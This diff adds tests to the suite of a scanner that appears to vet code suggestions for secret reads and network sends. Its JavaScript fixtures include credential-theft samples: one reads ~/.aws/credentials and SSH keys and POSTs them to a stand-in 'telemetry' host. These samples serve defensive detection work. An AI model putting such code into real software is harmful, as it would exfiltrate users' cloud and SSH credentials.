@@ -226,7 +226,7 @@ def test_a_vet_reports_what_the_suggestion_adds(vetter, path):
     result = vetter.vet(Suggestion("  " + EXFIL, document=DOCUMENT, line=DOCUMENT.count("\n"), path=path))
     assert result.verdict is Verdict.BLOCK
     assert result.summary == (
-        "adds: network → collector.example.net (sends ~/.aws/credentials); reads ~/.aws/credentials"
+        "adds: network → collector.example.net (POST, sends ~/.aws/credentials); reads ~/.aws/credentials"
     )
     leak = next(f for f in result.findings if f.rule == "capability.secret-to-network")
     assert leak.language == ("typescript" if path.endswith(".ts") else "javascript")
@@ -261,3 +261,69 @@ def test_the_projects_own_env_file_is_a_secret_source_not_a_sensitive_read():
     assert leak["secret-to-network"] == {("backup.example.io", ".env")}
     # Another project's or the home folder's .env is still a sensitive read.
     assert caps("require('fs').readFileSync('/srv/other/.env');")["sensitive-read"] == {("/srv/other/.env", "")}
+
+
+def test_a_hidden_file_name_in_a_secret_folder_is_a_secret_read_as_in_python():
+    """Review 30, item 2: the file's name from a table (`FILES[0]`) or a parameter; the folder is a
+    secret folder, so the read is a secret's whatever the name (the rule Python's analysis shares)."""
+    found = caps(
+        """
+        const fs = require('fs'); const os = require('os'); const path = require('path');
+        const FILES = ['credentials'];
+        async function uploadUsage(stats, name) {
+          const extra = fs.readFileSync(path.join(os.homedir(), '.aws', FILES[0]), 'utf8');
+          const key = fs.readFileSync(`${os.homedir()}/.ssh/${name}`, 'utf8');
+          await fetch('https://telemetry.example.net/v1/usage', { method: 'POST', body: JSON.stringify({ stats, extra, key }) });
+        }
+        """
+    )
+    assert found["secret-to-network"] == {("telemetry.example.net", "~/.aws/credentials, ~/.ssh/…")}
+
+
+def test_a_hidden_file_name_in_an_ordinary_folder_is_no_secret_read():
+    found = caps(
+        """
+        const fs = require('fs'); const os = require('os'); const path = require('path');
+        const FILES = ['settings.json'];
+        async function sync() {
+          const cfg = fs.readFileSync(path.join(os.homedir(), '.config', 'myapp', FILES[0]), 'utf8');
+          await fetch('https://api.myapp.example/v1/sync', { method: 'POST', body: cfg });
+        }
+        """
+    )
+    assert "secret-to-network" not in found and "sensitive-read" not in found
+
+
+def test_the_http_method_is_shown_beside_the_host():
+    tree = parse_js(
+        textwrap.dedent(
+            """
+            const axios = require('axios'); const https = require('https');
+            async function f(d) {
+              await fetch('https://a.example/x', { method: 'PUT', body: d });
+              await axios.post('https://b.example/y', d);
+              https.request({ hostname: 'c.example', method: 'delete' });
+              await fetch('https://d.example/');
+            }
+            """
+        ),
+        ("javascript",),
+    )
+    found = {(c.target, c.method) for c in capabilities(scan(tree)) if c.kind == "network"}
+    assert found == {("a.example", "PUT"), ("b.example", "POST"), ("c.example", "DELETE"), ("d.example", "")}
+
+
+def test_a_table_of_literals_resolves_only_what_is_written():
+    found = caps(
+        """
+        const fs = require('fs'); const os = require('os'); const path = require('path');
+        const WHERE = { aws: '.aws/credentials', app: '.config/app.json' };
+        const MORE = [...extra, 'credentials'];
+        function f() {
+          fs.readFileSync(path.join(os.homedir(), WHERE['aws']));
+          fs.readFileSync(path.join(os.homedir(), WHERE.app));
+          fs.readFileSync(path.join(os.homedir(), '.config', MORE[1]));
+        }
+        """
+    )
+    assert found["sensitive-read"] == {("~/.aws/credentials", "")}
